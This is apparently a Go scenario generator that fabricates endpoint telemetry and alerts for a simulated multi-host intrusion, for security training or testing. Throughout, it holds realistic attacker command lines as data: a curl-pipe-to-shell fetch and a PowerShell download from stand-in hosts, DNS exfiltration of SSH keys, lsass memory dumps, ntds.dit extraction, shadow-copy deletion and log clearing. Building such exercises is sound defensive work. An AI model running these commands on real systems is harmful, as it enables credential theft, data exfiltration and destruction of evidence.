package story

// Addresses and names of the intruder. They lie in ranges and domains
// reserved for documentation: nothing real answers there.
const (
	c2IP      = "203.0.113.66"
	exfilIP   = "198.51.100.23"
	lureIP    = "198.51.100.44" // another address of the lure: resolved, never connected to
	lureHost  = "cdn.invoice-portal.example"
	lureURL   = "https://cdn.invoice-portal.example/s/8841"
	c2Domain  = "telemetry.msedge-cdn.example"
	dropHost  = "storage.blob-drop.example"
	relayZone = "x7f2.ns-relay.example"
	lure      = "Invoice_8841.docm"
	implant   = "implant MsEdgeUpd"
	library   = "library d.dll"
	encoded   = "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBkAGUAbQBvACcAKQA="

	psExe   = system32 + `WindowsPowerShell\v1.0\powershell.exe`
	cmdExe  = system32 + "cmd.exe"
	msUpd   = `C:\ProgramData\Microsoft\EdgeUpdate\MsEdgeUpd.exe`
	winword = progFiles + `Microsoft Office\root\Office16\WINWORD.EXE`
)

// evil starts a process of the intrusion.
func (b *builder) evil(parent *Process, at float64, p prog) (*Process, *Event) {
	q, e := b.start(parent, b.mins(at), p)
	q.Malicious, e.Malicious = true, true
	return q, e
}

// did records something else p did.
func (b *builder) did(kind string, p *Process, at float64) *Event {
	return b.event(kind, p, b.mins(at))
}

func (b *builder) file(kind string, p *Process, at float64, path, content string, size int64) *Event {
	e := b.did(kind, p, at)
	img := b.image(content)
	e.FilePath, e.FileSize, e.FileMD5, e.FileSHA1, e.FileSHA256 = path, size, img.md5, img.sha1, img.sha256
	return e
}

func (b *builder) connect(p *Process, at float64, ip string, port int, domain string) *Event {
	e := b.did("network_connect", p, at)
	e.Direction, e.Transport, e.LocalIP, e.LocalPort = "egress", "tcp", p.Host.IP, 49152+(e.N*37)%16000
	e.RemoteIP, e.RemotePort, e.RemoteDomain = ip, port, domain
	return e
}

func (b *builder) dns(p *Process, at float64, name, typ string) *Event {
	e := b.did("dns_query", p, at)
	e.DNSName, e.DNSType = name, typ
	if name == lureHost {
		e.DNSAnswers = []string{"edge-4.cdn-relay.example", lureIP}
	}
	return e
}

func (b *builder) reg(kind string, p *Process, at float64, path, value, data string) *Event {
	e := b.did(kind, p, at)
	e.RegPath, e.RegValue, e.RegData = path, value, data
	return e
}

func (b *builder) access(p, target *Process, at float64, rights string) *Event {
	e := b.did("process_access", p, at)
	e.Target, e.Access = target, rights
	return e
}

func (b *builder) module(p *Process, at float64, path, content string) *Event {
	e := b.did("module_load", p, at)
	e.ModulePath, e.ModuleSHA256 = path, b.image(content).sha256
	return e
}

func (b *builder) end(p *Process, at float64) *Event {
	p.Ended = b.mins(at)
	return b.did("process_end", p, at)
}

// intrusion is the plot, from the first mail to the alert of two minutes ago.
func (b *builder) intrusion() {
	stolen := b.patientZero()
	b.servers(stolen)
	b.buildMachine()
	b.finance()
	b.artifacts()
}

// patientZero: HR-LT-221 opens the invoice; foothold, persistence, keylogging
// and the first credentials.
func (b *builder) patientZero() *Process {
	const host = "HR-LT-221"
	ex, outlook := b.proc(host, "explorer"), b.proc(host, "outlook")
	doc := `C:\Users\k.ivanova\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1XZ\` + lure
	mail := b.file("file_download", outlook, 296, doc, lure, 184_320)
	mail.Malicious = true
	word, open := b.evil(ex, 295, prog{path: winword, cmd: `"` + winword + `" /n "` + doc + `" /o ""`, signer: "Microsoft Corporation"})
	mshta, s1 := b.evil(word, 294.4, prog{path: system32 + "mshta.exe", cmd: "mshta.exe " + lureURL, signer: microsoft})
	b.connect(mshta, 294.3, c2IP, 443, lureHost)
	ps, s2 := b.evil(mshta, 294, prog{path: psExe, cmd: "powershell.exe -nop -w hidden -enc " + encoded, signer: microsoft, pid: 5312})
	b.file("file_download", ps, 293.6, msUpd, implant, 731_136)
	b.file("file_create", ps, 293.5, msUpd, implant, 731_136)
	imp, s3 := b.evil(ps, 293, prog{path: msUpd, cmd: `"` + msUpd + `" /svc`, content: implant, verdict: "malicious"})
	b.connect(imp, 292.5, c2IP, 443, "")
	b.alert(CWatch, "office-child", s1)
	b.alert(CWatch, "ps-flag", s2)
	b.alert(CWatch, "untrusted", s3)
	_ = open

	run := b.reg("registry_set", ps, 284, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "EdgeUpdateHelper", `"`+msUpd+`" /svc`)
	b.alert(CWatch, "runkey", run)
	uac := b.reg("registry_set", imp, 281, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System`, "EnableLUA", "0")
	b.alert(CWatch, "uac", uac)
	cmd, _ := b.evil(imp, 280, prog{path: cmdExe, cmd: `cmd.exe /c schtasks /create /tn "EdgeUpdateCheck" /tr "` + msUpd + `" /sc minute /mo 15 /f`, signer: microsoft})
	_, _ = b.evil(cmd, 279.9, prog{path: system32 + "schtasks.exe", cmd: `schtasks  /create /tn "EdgeUpdateCheck" /tr "` + msUpd + `" /sc minute /mo 15 /f`, signer: microsoft})
	// The script ends; its pid is given again to a harmless program: a reader
	// who goes by pid alone blames the wrong process.
	b.end(ps, 270)
	note, _ := b.start(ex, b.mins(210), prog{path: system32 + "notepad.exe", cmd: `notepad.exe "C:\Users\k.ivanova\Documents\holiday plan.txt"`, signer: microsoft, pid: 5312})
	b.file("file_write", note, 209, `C:\Users\k.ivanova\Documents\holiday plan.txt`, "holiday plan", 2_114)

	kb := b.did("device_access", imp, 262)
	kb.FilePath = `\Device\KeyboardClass0`
	b.alert(CWatch, "keyboard", kb)
	hook := b.did("hook", imp, 261.8)
	hook.ModulePath = msUpd
	scr := b.did("device_access", imp, 258)
	scr.FilePath = `\Device\Screen`

	for i, c := range []string{"whoami /all", `net group "Domain Admins" /domain`, "nltest /domain_trusts", "systeminfo"} {
		sh, _ := b.evil(imp, 250-float64(i)*1.5, prog{path: cmdExe, cmd: "cmd.exe /c " + c, signer: microsoft})
		exe := map[int]string{0: "whoami.exe", 1: "net.exe", 2: "nltest.exe", 3: "systeminfo.exe"}[i]
		b.evil(sh, 249.98-float64(i)*1.5, prog{path: system32 + exe, cmd: c, signer: microsoft})
	}

	sh, _ := b.evil(imp, 232, prog{path: cmdExe, cmd: "cmd.exe /q /c tasklist /fi \"imagename eq lsass.exe\"", signer: microsoft, integ: "High"})
	dump, _ := b.evil(sh, 230, prog{path: system32 + "rundll32.exe", cmd: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 700 C:\Windows\Temp\fmk.dmp full`, signer: microsoft, integ: "High"})
	mem := b.access(dump, b.proc(host, "lsass"), 229.9, "0x1fffff")
	b.file("file_write", dump, 229.7, `C:\Windows\Temp\fmk.dmp`, "lsass dump hr", 48_234_496)
	b.alert(CWatch, "memread", mem)
	b.file("file_delete", dump, 221, `C:\Windows\Temp\fmk.dmp`, "lsass dump hr", 0)
	inj := b.did("process_inject", imp, 218)
	inj.Target = b.proc(host, "spoolsv")
	b.alert(CWatch, "inject", inj)
	b.reg("registry_delete", imp, 217, `HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server`, "fDenyTSConnections", "")
	mic := b.did("device_access", imp, 190)
	mic.FilePath = `\Device\Microphone`
	raw := b.did("device_access", imp, 188)
	raw.FilePath = `\\.\PhysicalDrive0`
	usb := b.file("file_copy", ex, 150, `E:\payroll\salaries-2026.xlsx`, "salaries", 402_115)
	usb.FileOldPath = `C:\Users\k.ivanova\Documents\salaries-2026.xlsx`
	b.alert(CWatch, "usb", usb)

	// The intruder comes back from the file server with remote PowerShell.
	wsm, _ := b.evil(b.proc(host, "rpcss"), 12, prog{path: system32 + "wsmprovhost.exe", cmd: system32 + "wsmprovhost.exe -Embedding", signer: microsoft})
	lis := b.did("network_listen", imp, 11.5)
	lis.Direction, lis.Transport, lis.LocalIP, lis.LocalPort = "ingress", "tcp", "0.0.0.0", 8443
	_, rem := b.evil(wsm, 11, prog{path: psExe, cmd: `powershell.exe -nop -c "Get-ChildItem \\SRV-FS-01\hr$ -Recurse | Measure-Object"`, signer: microsoft})
	b.alert(CWatch, "ps-remote", rem)
	b.connect(imp, 9, c2IP, 443, "")
	return imp
}

// servers: psexec to the database server, WMI to the application server, the
// domain's database, staging on the file server and exfiltration from it.
func (b *builder) servers(from *Process) {
	const db, app, dc, fs = "SRV-DB-02", "SRV-APP-03", "SRV-DC-01", "SRV-FS-01"
	// The console of the first machine: chain of eight down to the connection.
	sh, _ := b.evil(from, 203, prog{path: cmdExe, cmd: "cmd.exe", signer: microsoft, integ: "High"})
	px, _ := b.evil(sh, 202, prog{path: `C:\Users\Public\PsExec64.exe`, cmd: `PsExec64.exe -accepteula \\SRV-DB-02 -s -d cmd.exe /c powershell -ep bypass -f \\10.20.6.121\c$\Users\Public\u.ps1`, signer: "Microsoft Corporation", content: "psexec64"})
	b.connect(px, 201.9, "10.20.1.32", 445, "")

	svc, s1 := b.evil(b.proc(db, "services"), 201.5, prog{path: `C:\Windows\PSEXESVC.exe`, user: "SYSTEM", signer: "Microsoft Corporation", content: "psexesvc"})
	in := b.did("network_connect", b.proc(db, "rpcss"), 201.6)
	in.Direction, in.Transport, in.LocalIP, in.LocalPort, in.RemoteIP, in.RemotePort = "ingress", "tcp", "10.20.1.32", 445, "10.20.6.121", 51644
	c1, s2 := b.evil(svc, 201.2, prog{path: cmdExe, cmd: `"cmd.exe" /c powershell -ep bypass -f \\10.20.6.121\c$\Users\Public\u.ps1`, user: "SYSTEM", signer: microsoft})
	ps, s3 := b.evil(c1, 201, prog{path: psExe, cmd: `powershell  -ep bypass -f \\10.20.6.121\c$\Users\Public\u.ps1`, user: "SYSTEM", signer: microsoft})
	b.alert(CarbonBlack, "psexec", in, s1, s2, s3)
	f1 := b.file("file_create", ps, 199, msUpd, implant, 731_136)
	imp, s4 := b.evil(ps, 198, prog{path: msUpd, cmd: `"` + msUpd + `" /svc`, user: "SYSTEM", content: implant, verdict: "malicious"})
	n1 := b.connect(imp, 197, c2IP, 443, c2Domain)
	b.alert(CarbonBlack, "beacon", f1, s4, n1)
	b.reg("registry_create", imp, 196, `HKLM\SYSTEM\CurrentControlSet\Services\EdgeUpdM`, "", "")
	b.reg("registry_set", imp, 195.9, `HKLM\SYSTEM\CurrentControlSet\Services\EdgeUpdM`, "ImagePath", msUpd)
	pd, s5 := b.evil(imp, 186, prog{path: `C:\Windows\Temp\procdump64.exe`, cmd: `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\o.dmp`, user: "SYSTEM", signer: "Microsoft Corporation", content: "procdump64"})
	m1 := b.access(pd, b.proc(db, "lsass"), 185.8, "0x1fffff")
	api := b.did("api_call", pd, 185.9)
	api.Target = b.proc(db, "lsass")
	f2 := b.file("file_create", pd, 185.5, `C:\Windows\Temp\o.dmp`, "lsass dump db", 51_380_224)
	b.alert(CarbonBlack, "lsass", s5, api, m1, f2)
	rd := b.file("file_read", imp, 176, `D:\MSSQL\Backup\payroll_full.bak`, "payroll_full.bak", 2_147_483_648)
	_ = rd
	lg, s6 := b.evil(imp, 172, prog{path: system32 + "wevtutil.exe", cmd: "wevtutil.exe cl Security", user: "SYSTEM", signer: microsoft})
	b.alert(CarbonBlack, "logs", s6)
	b.end(lg, 171.9)

	// WMI to the application server, which ESP watches too.
	wm, w1 := b.evil(b.proc(app, "wmiprvse"), 163, prog{path: cmdExe, cmd: `cmd.exe /Q /c powershell -nop -w hidden -enc ` + encoded + ` 1> \\127.0.0.1\ADMIN$\__1766 2>&1`, user: "svc_sql", signer: microsoft, integ: "High"})
	wp, w2 := b.evil(wm, 162.8, prog{path: psExe, cmd: "powershell -nop -w hidden -enc " + encoded, user: "svc_sql", signer: microsoft, integ: "High"})
	b.alert(CarbonBlack, "wmi", w1, w2)
	b.alert(ESP, "wmi", w1)
	ai, w3 := b.evil(wp, 161, prog{path: msUpd, cmd: `"` + msUpd + `" /svc`, user: "svc_sql", content: implant, verdict: "malicious", integ: "High"})
	b.file("file_create", wp, 161.5, msUpd, implant, 731_136)
	sv := b.reg("registry_set", ai, 159, `HKLM\SYSTEM\CurrentControlSet\Services\EdgeUpdM`, "ImagePath", msUpd)
	b.alert(ESP, "svc", w3, sv)
	b.dns(ai, 158.5, c2Domain, "A")
	b.connect(ai, 158, c2IP, 443, c2Domain)

	// The domain controller.
	dsvc, _ := b.evil(b.proc(dc, "wmiprvse"), 140, prog{path: cmdExe, cmd: `cmd.exe /Q /c ntdsutil "ac i ntds" "ifm" "create full c:\windows\temp\n" q q`, user: "adm_vogel", signer: microsoft, integ: "High"})
	nt, d1 := b.evil(dsvc, 139.8, prog{path: system32 + "ntdsutil.exe", cmd: `ntdsutil  "ac i ntds" "ifm" "create full c:\windows\temp\n" q q`, user: "adm_vogel", signer: microsoft, integ: "High"})
	d2 := b.file("file_create", nt, 138, `C:\Windows\Temp\n\Active Directory\ntds.dit`, "ntds.dit", 83_886_080)
	b.alert(CarbonBlack, "ntds", d1, d2)
	dn, d3 := b.evil(dsvc, 136, prog{path: system32 + "net.exe", cmd: `net  group "Domain Admins" /domain`, user: "adm_vogel", signer: microsoft})
	b.alert(CarbonBlack, "discovery", d3)
	b.end(dn, 135.9)

	// Staging and exfiltration from the file server.
	fx, _ := b.evil(b.proc(fs, "wmiprvse"), 98, prog{path: psExe, cmd: `powershell.exe -nop -ep bypass -w hidden -c "iwr http://203.0.113.66/t.zip -o C:\ProgramData\Intel\t.zip"`, user: "adm_vogel", signer: microsoft, integ: "High"})
	b.connect(fx, 97.8, c2IP, 80, "")
	b.file("file_create", fx, 97, `C:\ProgramData\Intel\7z.exe`, "7z", 558_592)
	z, z1 := b.evil(fx, 92, prog{path: `C:\ProgramData\Intel\7z.exe`, cmd: `7z.exe a -t7z -mx1 -v500m -p3rD#9x -mhe C:\ProgramData\Intel\hr_export.7z D:\Shares\hr$\* D:\Shares\finance$\*`, user: "adm_vogel", content: "7z", integ: "High"})
	z2 := b.file("file_create", z, 90, `C:\ProgramData\Intel\hr_export.7z`, "hr_export.7z", 524_288_000)
	z3 := b.file("file_read", z, 89, `D:\Shares\finance$\2026\budget-final.xlsx`, "budget-final", 912_384)
	b.alert(CarbonBlack, "stage", z1, z2, z3)
	rc, r1 := b.evil(fx, 62, prog{path: `C:\ProgramData\Intel\rclone.exe`, cmd: `rclone.exe copy C:\ProgramData\Intel drop:in --include "*.7z*" --transfers 8 --no-check-certificate -q`, user: "adm_vogel", content: "rclone", integ: "High"})
	var sent []*Event
	sent = append(sent, r1)
	for i := range 6 {
		sent = append(sent, b.connect(rc, 61-float64(i)*4, exfilIP, 443, dropHost))
	}
	b.alert(CarbonBlack, "exfil", sent...)
	vs, v1 := b.evil(fx, 34, prog{path: system32 + "vssadmin.exe", cmd: "vssadmin.exe delete shadows /all /quiet", user: "adm_vogel", signer: microsoft, integ: "High"})
	b.alert(CarbonBlack, "shadow", v1)
	b.end(vs, 33.9)
	b.end(rc, 30)

	// Six minutes ago, on the database server: the implant moves into spoolsv.
	p2, i0 := b.evil(imp, 6.5, prog{path: psExe, cmd: "powershell.exe -nop -w hidden -enc " + encoded, user: "svc_sql", signer: microsoft, integ: "High"})
	i1 := b.did("process_inject", p2, 6)
	i1.Target = b.proc(db, "spoolsv")
	inj := b.alert(CarbonBlack, "inject", i0, i1)
	inj.Description = "powershell.exe, started by MsEdgeUpd.exe, wrote code into spoolsv.exe."
	b.connect(b.proc(db, "spoolsv"), 5, c2IP, 443, c2Domain).Malicious = true
}

// buildMachine: with a stolen key over ssh to the Linux build machines.
func (b *builder) buildMachine() {
	const host = "build-07"
	sshd := b.proc(host, "sshd")
	in := b.did("network_connect", sshd, 122)
	in.Direction, in.Transport, in.LocalIP, in.LocalPort, in.RemoteIP, in.RemotePort = "ingress", "tcp", "10.20.10.7", 22, "10.20.6.121", 50122
	in.Malicious = true
	ses, s0 := b.evil(sshd, 121.9, prog{path: "/usr/sbin/sshd", cmd: "sshd: root@pts/3", user: "root", signer: "dpkg"})
	b.alert(ESP, "sshlat", in, s0)
	sh, _ := b.evil(ses, 121.8, prog{path: "/usr/bin/bash", cmd: "-bash", user: "root", signer: "dpkg", dir: "/home/deploy"})
	key := b.file("file_write", sh, 119, "/home/deploy/.ssh/authorized_keys", "authorized_keys", 1_122)
	b.alert(ESP, "sshkey", key)
	cat, sd := b.evil(sh, 112, prog{path: "/usr/bin/cat", cmd: "cat /etc/shadow", user: "root", signer: "dpkg", dir: "/home/deploy"})
	b.alert(ESP, "shadow", sd)
	b.end(cat, 111.98)
	nm, n0 := b.evil(sh, 104, prog{path: "/usr/bin/nmap", cmd: "nmap -sT -p 22,80,443,5432 10.20.11.0/24", user: "root", signer: "dpkg", dir: "/home/deploy"})
	for i := range 5 {
		b.connect(nm, 103.9-float64(i)*.02, "10.20.11.3", []int{22, 80, 443, 5432, 8080}[i], "")
	}
	b.alert(ESP, "scan", n0)
	tar, t0 := b.evil(sh, 83, prog{path: "/usr/bin/tar", cmd: "tar czf /var/tmp/.cache/k.tgz /home/deploy/.ssh /etc/ssh /etc/gitlab-runner/config.toml", user: "root", signer: "dpkg", dir: "/home/deploy"})
	tf := b.file("file_create", tar, 82.9, "/var/tmp/.cache/k.tgz", "k.tgz", 20_480)
	b.alert(ESP, "privkey", t0, tf)
	dig, _ := b.evil(sh, 70, prog{path: "/usr/bin/bash", cmd: `bash -c 'xxd -p -c 30 /var/tmp/.cache/k.tgz | while read l; do dig +short $l.` + relayZone + `; done'`, user: "root", signer: "dpkg", dir: "/home/deploy"})
	var names []*Event
	r := newRng(streamOf("dns relay"))
	for i := range 8 {
		names = append(names, b.dns(dig, 69.5-float64(i)*.1, label60(r)+"."+relayZone, "TXT"))
	}
	b.alert(ESP, "dnsexf", names...)

	// Nineteen minutes ago: a second foothold.
	c, c0 := b.evil(sh, 19.02, prog{path: "/usr/bin/bash", cmd: "bash -c 'curl -fsSL http://203.0.113.66/b.sh | sh'", user: "root", signer: "dpkg", dir: "/home/deploy"})
	cu, c1 := b.evil(c, 19.01, prog{path: "/usr/bin/curl", cmd: "curl -fsSL http://203.0.113.66/b.sh", user: "root", signer: "dpkg", dir: "/home/deploy"})
	b.connect(cu, 19.005, c2IP, 80, "")
	s, c2 := b.evil(c, 19, prog{path: "/usr/bin/dash", cmd: "sh", user: "root", signer: "dpkg", dir: "/home/deploy"})
	b.alert(ESP, "curlsh", c0, c1, c2)
	cr := b.file("file_create", s, 18.5, "/etc/cron.d/mlocate-update", "cron mlocate-update", 74)
	b.alert(ESP, "cron", cr)
	kw, _ := b.evil(s, 18, prog{path: "/var/tmp/.cache/kworkerd", cmd: "[kworker/2:1-events]", user: "root", content: "implant linux", verdict: "malicious", dir: "/var/tmp/.cache"})
	b.dns(kw, 17.9, c2Domain, "A")
	it := b.connect(kw, 17.8, c2IP, 443, c2Domain)
	b.alert(ESP, "intel", it)
	b.end(cu, 18.99)
}

// label60 is a DNS label full of hex, as data in names looks.
func label60(r *rng) string {
	out := make([]byte, 0, 60)
	for len(out) < 60 {
		out = append(out, hexDigits[r.intn(16)])
	}
	return string(out)
}

// finance: the invoice again, sent from k.ivanova's own mailbox, opened by
// a.moreau; first on a colleague's machine where it was caught early.
func (b *builder) finance() {
	const other, host = "FIN-WS-022", "FIN-WS-014"
	{
		ex := b.proc(other, "explorer")
		doc := `C:\Users\t.nakamura\Downloads\` + lure
		b.file("file_create", b.proc(other, "outlook"), 58, doc, lure, 184_320)
		w, _ := b.evil(ex, 57, prog{path: winword, cmd: `"` + winword + `" /n "` + doc + `" /o ""`, signer: "Microsoft Corporation"})
		m, e := b.evil(w, 56.5, prog{path: system32 + "mshta.exe", cmd: "mshta.exe " + lureURL, signer: microsoft})
		b.alert(Gene, "mshta", e)
		b.dns(m, 56.4, lureHost, "A")
		b.connect(m, 56.3, c2IP, 443, lureHost)
		b.end(m, 55)
		b.end(w, 54)
		// A tool that also lies on the jump host.
		t, e := b.evil(ex, 52, prog{path: `C:\Users\t.nakamura\AppData\Local\Temp\adf.exe`, cmd: "adf.exe -f objectcategory=computer -csv", content: "directory finder"})
		b.alert(Gene, "discovery", e)
		b.end(t, 51)
		j, _ := b.evil(b.proc("WIN-JMP-01", "explorer"), 48, prog{path: `C:\Users\o.jensen\Downloads\adf.exe`, cmd: "adf.exe -gpo", content: "directory finder"})
		b.end(j, 47)
	}

	ex := b.proc(host, "explorer")
	doc := `C:\Users\a.moreau\Downloads\` + lure
	b.file("file_create", b.proc(host, "outlook"), 41, doc, lure, 184_320)
	b.file("file_download", b.proc(host, "outlook"), 41.01, doc, lure, 184_320)
	word, e0 := b.evil(ex, 40, prog{path: winword, cmd: `"` + winword + `" /n "` + doc + `" /o ""`, signer: "Microsoft Corporation", pid: 7316})
	_ = e0
	ps, e1 := b.evil(word, 38, prog{path: psExe, cmd: "powershell.exe -nop -w hidden -enc " + encoded, signer: microsoft, pid: 8044})
	b.alert(Gene, "psenc", e1)
	b.dns(ps, 37.9, lureHost, "A")
	b.connect(ps, 37.8, c2IP, 443, lureHost)
	dll := `C:\Users\Public\d.dll`
	f := b.file("file_create", ps, 37, dll, library, 212_992)
	b.alert(Gene, "newexe", f)
	rk := b.reg("registry_set", ps, 33, `HKU\S-1-5-21-1004336348-1177238915-682003330-1614\Software\Microsoft\Windows\CurrentVersion\Run`, "EdgeUpdateHelper", `rundll32.exe C:\Users\Public\d.dll,Start`)
	b.alert(Gene, "runkey", rk)
	b.reg("registry_create", ps, 32.9, `HKU\S-1-5-21-1004336348-1177238915-682003330-1614\Software\Classes\ms-settings\Shell\Open\command`, "", "")
	b.reg("registry_delete", ps, 32.5, `HKU\S-1-5-21-1004336348-1177238915-682003330-1614\Software\Classes\ms-settings\Shell\Open\command`, "DelegateExecute", "")
	sh, _ := b.evil(ps, 31.2, prog{path: cmdExe, cmd: `cmd.exe /c schtasks /create /tn "EdgeUpdateCheck" /tr "rundll32.exe C:\Users\Public\d.dll,Start" /sc onlogon /f`, signer: microsoft})
	_, e2 := b.evil(sh, 31, prog{path: system32 + "schtasks.exe", cmd: `schtasks  /create /tn "EdgeUpdateCheck" /tr "rundll32.exe C:\Users\Public\d.dll,Start" /sc onlogon /f`, signer: microsoft})
	b.alert(Gene, "task", e2)
	// cWatch sees the same machine and names what it sees its own way.
	_, e3 := b.evil(ps, 30, prog{path: system32 + "net.exe", cmd: `net  group "Treasury" /domain`, signer: microsoft})
	b.alert(CWatch, "ps-flag", e3)
	imp, _ := b.evil(ps, 26, prog{path: msUpd, cmd: `"` + msUpd + `" /svc`, content: implant, verdict: "malicious"})
	for i := range 6 {
		n := b.connect(imp, 25-float64(i)*3, c2IP, 443, c2Domain)
		b.dns(imp, 25.02-float64(i)*3, c2Domain, "A")
		if i == 3 {
			b.alert(Gene, "beacon", n)
		}
	}
	wr := b.did("file_write", imp, 24)
	wr.FilePath = msUpd
	raw := b.did("device_access", imp, 14)
	raw.FilePath = `\Device\Harddisk0\DR0`
	r := newRng(streamOf("dns tunnel"))
	for i := range 4 {
		t := b.dns(imp, 13-float64(i)*.1, label60(r)+"."+relayZone, "TXT")
		if i == 2 {
			b.alert(Gene, "dnstun", t)
		}
	}
	rd, e4 := b.evil(ps, 4, prog{path: system32 + "rundll32.exe", cmd: `rundll32.exe C:\Users\Public\d.dll,Start`, signer: microsoft, pid: 8120, integ: "High"})
	b.alert(Gene, "rundll", e4)
	ml := b.module(rd, 3.9, dll, library)
	b.alert(Gene, "unsigned", ml)
	th := b.did("process_inject", rd, 3)
	th.Target = b.proc(host, "spoolsv")
	b.alert(Gene, "inject", th)
	// The newest alert: two minutes before the anchor.
	mem := b.access(rd, b.proc(host, "lsass"), 2, "0x1010")
	a := b.alert(Gene, "lsass", mem)
	a.Description = "rundll32.exe, started by powershell.exe below WINWORD.EXE, read the memory of lsass.exe."
}

// artifacts are files already lying on the servers.
func (b *builder) artifacts() {
	for _, a := range []struct {
		host, path, text string
		at               float64
	}{
		{"FIN-WS-014", `C:\Users\Public\d.dll`, "made-up library: not a program\n", 36},
		{"FIN-WS-014", `C:\Users\a.moreau\Downloads\` + lure, "made-up document: Invoice 8841\n", 37},
		{"FIN-WS-022", `C:\Users\t.nakamura\Downloads\` + lure, "made-up document: Invoice 8841\n", 55},
		{"FIN-WS-022", `C:\Users\t.nakamura\AppData\Local\Temp\adf.exe`, "made-up tool: not a program\n", 50},
		{"HR-LT-221", msUpd, "made-up implant: not a program\n", 291},
		{"SRV-FS-01", `C:\ProgramData\Intel\hr_export.7z`, "made-up archive\n", 60},
		{"build-07", "/var/tmp/.cache/k.tgz", "made-up archive\n", 80},
		{"build-07", "/etc/cron.d/mlocate-update", "*/10 * * * * root /var/tmp/.cache/kworkerd\n", 18.4},
	} {
		var e *Event
		for _, x := range b.s.events {
			if x.Host.Name == a.host && (x.FilePath == a.path || x.Target != nil && x.Target.Path == a.path) {
				e = x
				break
			}
		}
		b.s.Artifacts = append(b.s.Artifacts, &Artifact{
			N: len(b.s.Artifacts) + 1, Host: e.Host, Process: e.Process, Event: e,
			Path: a.path, Content: []byte(a.text), Time: b.mins(a.at),
		})
	}
}
